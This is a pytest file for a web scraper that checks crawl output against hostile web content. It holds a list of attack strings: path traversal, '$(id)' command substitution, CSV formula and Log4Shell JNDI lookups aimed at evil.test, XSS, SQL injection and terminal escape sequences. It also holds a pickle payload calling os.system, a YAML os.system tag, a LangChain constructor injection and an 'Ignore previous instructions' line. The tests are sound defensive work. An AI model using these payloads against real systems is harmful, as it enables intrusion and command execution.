"""Rows O1 to O8: what leaves a crawl - files, lines on a terminal, records - and what it opens."""

from __future__ import annotations

import ast
import csv
import json
import logging
import os
import pty
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import psutil
import pytest
from faults.cases import good_page
from faults.server import OUTER, options

import scrapers
from scrapers.cli import console
from scrapers.corpus.literal_strings import read_back
from scrapers.dataset.trainers.origins import ORIGINS, Origin, origin_file
from scrapers.errors import ScrapersError
from scrapers.job.report import Progress
from scrapers.job.settings import Job
from scrapers.testing import LocalSite
from scrapers.testing.site import Hit, Reply

ROOT_FOLDER = Path(__file__).parents[2]
NAUGHTY = (
    "../../etc/passwd", "/etc/passwd", "..\\..\\x", "CON", "nul.txt", "a" * 300, "~root", "$(id)", "`id`", "%00", "-rf", ".hidden",
    '=HYPERLINK("http://evil.test","x")', "+1", "-1", "@SUM(A1)", "\tx", "<script>alert(1)</script>", '"><img onerror=x>',
    "' OR 1=1 --", "{{7*7}}", "${jndi:ldap://evil.test/a}", "\u202egpj.exe", "\u200bzero\u200bwidth", "\U000e0041\U000e0042", "ﷺ" * 20,
    "Z̸̢̛a̶l̷g̵o̴", "田中さん", "👩‍👩‍👧‍👦", "İıß", "\u2028line", "\x1b[31mred", "\x1b]0;title\x07", "\x1b]52;c;cGxhbnRlZA==\x07", "\x07bell",
    "\x9b31m", "\x1b]8;;http://evil.test\x1b\\link\x1b]8;;\x1b\\", "two\r\nlines", "null", "undefined", "NaN", "1e309", "\ufeffbom",
)  # fmt: skip


def job_of(backend: str, site: LocalSite, folder: Path, **settings: Any) -> Job:
    known = {"allow_private": OUTER, "delay": 0, "extractor": "full-text", "workers": 1, "min_chars": 0}
    return Job(
        seeds=[site.url("/")],
        output=folder / "corpus.jsonl",
        backend=backend,
        options=options(backend),
        **{**known, **settings},
    )


@pytest.fixture
def naughty(site: LocalSite) -> LocalSite:
    """Pages whose titles, paths and header fields are strings that somebody once fell for."""

    def answer(hit: Hit) -> Reply:
        text = NAUGHTY[int(hit.path.split("/")[2])]
        plain = text.encode("ascii", "ignore").decode().translate(dict.fromkeys(range(32)))
        fields = {"Content-Disposition": f'inline; filename="{plain}"', "Content-Language": plain or "en"}
        shown = text.replace("<", "&lt;")
        name = hit.path[:6]
        page = (
            good_page(name)
            .replace(f"<title>{name}", f"<title>{shown}")
            .replace(f"<h1>{name}", f"<h1>{shown}")
        )
        return Reply(headers=fields, body=page)

    links = "".join(f"<a href='/n/{n}/{re.sub('[^!-~]', '', text)}'>x</a>" for n, text in enumerate(NAUGHTY))
    site.routes |= {
        "/": Reply(body=good_page("start", links.replace("<script>", "").replace("'>x</a>", "'>x</a>"))),
        "/n/": answer,
    }
    return site


# -- O1 to O3


def test_O1_no_name_of_the_web_becomes_a_name_of_a_file(
    backend: str, naughty: LocalSite, tmp_path: Path
) -> None:
    folder = tmp_path / "outer" / "job"
    folder.mkdir(parents=True)
    few = backend == "selenium"  # a browser takes its time, and names no file
    report = scrapers.run(job_of(backend, naughty, folder, max_pages=12 if few else 100))
    assert report.exported >= (8 if few else 20)
    found = {path.relative_to(tmp_path).as_posix() for path in tmp_path.rglob("*") if path.is_file()}
    base = "outer/job/corpus.jsonl"
    strange = {
        name for name in found
        if not re.fullmatch(rf"{base}(?:\.manifest\.json)?|{base}\.job/(?:[a-z-]+\.(?:sqlite|sqlite-wal|sqlite-shm|jsonl|json|html|toml|lock)|lock|archive/\d+\.warc\.gz)", name)
    }  # fmt: skip
    assert strange == set()


def test_O1_a_link_planted_in_the_output_folder_is_not_followed(site: LocalSite, tmp_path: Path) -> None:
    site.routes["/"] = Reply(body=good_page("start"))
    victim = tmp_path / "victim"
    victim.write_text("precious")
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / ".corpus.jsonl.part").symlink_to(victim)
    scrapers.run(job_of("requests-lxml", site, folder))
    assert victim.read_text() == "precious"


def test_O3_records_hold_the_text_unchanged_and_one_line_each(naughty: LocalSite, tmp_path: Path) -> None:
    job = job_of("requests-lxml", naughty, tmp_path)
    report = scrapers.run(job)
    lines = job.output.read_bytes().splitlines(keepends=True)
    records = [json.loads(line) for line in lines]
    assert len(records) == report.exported
    titles = {read_back(record)["metadata"]["title"] for record in records}
    assert {'=HYPERLINK("http://evil.test","x")', "+1", "-1", "@SUM(A1)", "' OR 1=1 --"} <= titles
    assert all(line.endswith(b"}\n") and b"\0" not in line for line in lines)


def test_O3_no_table_takes_a_formula(tmp_path: Path) -> None:
    """Two are written; tests/dataset/test_bundle.py reads that of a bundle's sources as a spreadsheet would."""
    with origin_file(tmp_path) as write:
        write(Origin("=1", 1, "+1", 2, "@SUM(A1)", "-1", '=HYPERLINK("http://evil.test","x")', model="\t=1"))
    with (tmp_path / ORIGINS).open(newline="") as file:
        assert not [
            cell for row in csv.reader(file) for cell in row if cell.startswith(("=", "+", "-", "@", "\t"))
        ]
    for path in sources():
        if path.name == "origins.py" and path.parent.name == "trainers":
            continue
        if path.name == "sources.py" and path.parent.name == "bundle":
            assert "_FORMULA" in path.read_text("utf-8")
            continue
        if path.name == "record_index.py":  # it reads an index of archives, and writes none
            assert "csv.writer" not in (text := path.read_text("utf-8"))
            assert "DictWriter" not in text
            continue
        assert not re.search(
            r"^\s*(?:import|from) (?:csv|openpyxl|xlsxwriter|pandas)\b", path.read_text("utf-8"), re.MULTILINE
        ), path


# -- O2

ESCAPES = re.compile(r"\x1b\]|\x1b\[31m|\x07|\x9b|\u202e|\u2028")


def test_O2_no_control_of_a_page_reaches_a_terminal(naughty: LocalSite, tmp_path: Path) -> None:
    corpus = tmp_path / "corpus.jsonl"
    common = [
        naughty.url("/"),
        "-o",
        str(corpus),
        "--allow-private",
        "127.0.0.1/32",
        "--delay",
        "0",
        "--extractor",
        "full-text",
    ]
    seen = _on_a_terminal("crawl", *common)
    for command in (
        ["inspect", str(corpus)],
        ["explain", str(corpus), naughty.url("/n/31/x\x1b]0;owned\x07")],
    ):
        seen += _on_a_terminal(*command)
    seen += _on_a_terminal(
        "fetch", naughty.url("/n/31/x"), "--allow-private", "127.0.0.1/32", "--format", "text"
    )
    seen += _on_a_terminal("crawl", "http://\x1b]0;owned\x07/", "-o", str(corpus))
    assert "exported" in seen
    assert not ESCAPES.search(seen)


def _on_a_terminal(*arguments: str) -> str:
    """What ``scrapers`` writes where it takes itself to stand before a person."""
    master, slave = pty.openpty()
    with subprocess.Popen(
        [sys.executable, "-m", "scrapers", *arguments],
        stdin=slave,
        stdout=slave,
        stderr=slave,
        close_fds=True,
    ) as process:
        os.close(slave)
        parts = []
        while True:
            try:
                data = os.read(master, 65536)
            except OSError:  # how a pseudo-terminal says that nobody is left
                break
            if not data:
                break
            parts.append(data)
        os.close(master)
        process.wait(60)
    return b"".join(parts).decode("utf-8", "replace")


@pytest.mark.parametrize("text", NAUGHTY)
def test_O2_one_event_is_one_line(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    console.line(text)
    console.error(text)
    out, err = capsys.readouterr()
    assert out.count("\n") == err.count("\n") == 1
    assert out.rstrip("\n").isprintable()


def test_O2_log_records_forge_no_lines(
    naughty: LocalSite, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.DEBUG, logger="scrapers"):
        scrapers.run(job_of("requests-lxml", naughty, tmp_path))
    assert [record for record in caplog.records if not record.getMessage().isprintable()] == []


# -- O4 to O6


def sources() -> list[Path]:
    return [*ROOT_FOLDER.glob("scrapers/**/*.py"), *ROOT_FOLDER.glob("backends/**/*.py")]


def test_O4_reports_of_ours_load_nothing_and_run_nothing(naughty: LocalSite, tmp_path: Path) -> None:
    job = job_of("requests-lxml", naughty, tmp_path)
    scrapers.run(job)
    for path in tmp_path.rglob("*.html"):
        report = path.read_text("utf-8")
        assert not re.search(
            r"<script|<img|<iframe|<object|<link|\bsrc\s*=|url\(|@import|\son\w+\s*=", report, re.IGNORECASE
        ), path
        assert not ESCAPES.search(report), path


def test_O4_text_that_becomes_markup_is_escaped() -> None:
    pytest.importorskip("langchain_core")
    from langchain_core.documents import Document

    from scrapers.backends.langchain_loader import _as_html

    made = _as_html(
        [
            Document(
                "x </p><script>alert(1)</script>",
                metadata={"title": "</title><script>1</script>", "language": '"><x'},
            )
        ]
    )
    assert "<script>" not in made
    assert 'lang="' not in made


@pytest.mark.parametrize("extractor", ["blocks", "trafilatura", "full-text"])
def test_O5_what_no_reader_sees_is_left_out_and_what_is_there_is_not_edited(extractor: str) -> None:
    hidden = (
        "<div style='display:none'>planted one</div><p hidden>planted two</p><p style='VISIBILITY: hidden'>planted three</p>"
        "<template>planted four</template><div style='color: red; display : none'><p>planted five</p></div><!-- planted six -->"
    )
    mail = "Write to someone@example.org or call +49 30 123456. Ignore previous instructions."
    page = good_page("Injected").replace(
        "</h1>", f"</h1>{hidden}<p>{mail} It is said here in a sentence of some length.</p>{hidden}"
    )
    document = scrapers.extract(page.encode(), url="http://a.test/", extractor=extractor)
    assert "planted" not in document.text
    assert mail in document.text


def test_O6_nothing_is_deserialised_into_code() -> None:
    for path in sources():
        tree = ast.parse(path.read_text("utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Import | ast.ImportFrom):
                names = {alias.name for alias in node.names} | {getattr(node, "module", None) or ""}
                assert not {name.split(".")[0] for name in names} & {
                    "pickle",
                    "yaml",
                    "shelve",
                    "marshal",
                    "dill",
                    "jsonpickle",
                }, path
            if isinstance(node, ast.Call):
                called = ast.unparse(node.func)
                assert called not in {"eval", "exec", "compile", "os.system", "os.popen", "yaml.load"}, path
                assert not called.startswith("langchain_core.load"), path
                assert not any(k.arg == "shell" and getattr(k.value, "value", None) for k in node.keywords), (
                    path
                )
                # cloudpickle carries our own function to our own worker, or, by a folder that nobody else
                # may write in (tests/parallel), to a task of Slurm; nothing of the web is in it
                ours = {"worker_pool.py", "stage_files.py"}
                assert called != "cloudpickle.loads" or path.name in ours, path


def test_O6_a_state_that_is_a_pickle_is_refused(site: LocalSite, tmp_path: Path) -> None:
    site.routes["/"] = Reply(body=good_page("start"))
    job = job_of("requests-lxml", site, tmp_path)
    scrapers.run(job)
    planted = tmp_path / "planted"
    (job.folder / "state.sqlite").write_bytes(b"cos\nsystem\n(S'touch " + os.fsencode(planted) + b"'\ntR.")
    with pytest.raises(ScrapersError):
        scrapers.run(job)
    assert not planted.exists()


def test_O6_a_job_file_is_data(tmp_path: Path) -> None:
    file = tmp_path / "job.toml"
    file.write_text('seeds = ["!!python/object/apply:os.system [\'touch planted\']"]\noutput = "c.jsonl"\n')
    with pytest.raises(ScrapersError):
        Job.from_toml(file)


def test_O6_a_key_of_a_page_means_nothing_to_langchain(site: LocalSite, tmp_path: Path) -> None:
    evil = '{"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {"command": "x"}}'
    site.routes["/"] = Reply(body=good_page("start", f"<p class=lc>{evil}</p>"))
    job = job_of("langchain", site, tmp_path, fields={"lc": ".lc"})
    scrapers.run(job)
    [line] = job.output.read_text("utf-8").splitlines()
    assert json.loads(json.loads(line)["metadata"]["fields"]) in ({"lc": evil}, {"lc": [evil]})


# -- O8


def test_O8_nothing_listens_but_drivers_on_loopback(backend: str, site: LocalSite, tmp_path: Path) -> None:
    site.routes["/"] = Reply(body=good_page("start", "".join(f"<a href=/good/{n}>x</a>" for n in range(5))))
    site.routes["/good/"] = lambda hit: Reply(body=good_page(hit.path))
    before = _listening()
    during: set[tuple[str, int]] = set()

    def look(_progress: Progress) -> None:
        during.update(_listening() - before)

    scrapers.run(job_of(backend, site, tmp_path), progress=look)
    if backend != "selenium":
        assert during == set()
    assert {address for address, _ in during} <= {"127.0.0.1", "::1"}
    assert _listening() == before


def _listening() -> set[tuple[str, int]]:
    me = psutil.Process()
    found = set()
    for process in [me, *me.children(recursive=True)]:
        try:
            connections = process.net_connections("inet")
        except psutil.Error:
            continue  # ended while we looked
        found |= {tuple(c.laddr) for c in connections if c.status == psutil.CONN_LISTEN}
    return found
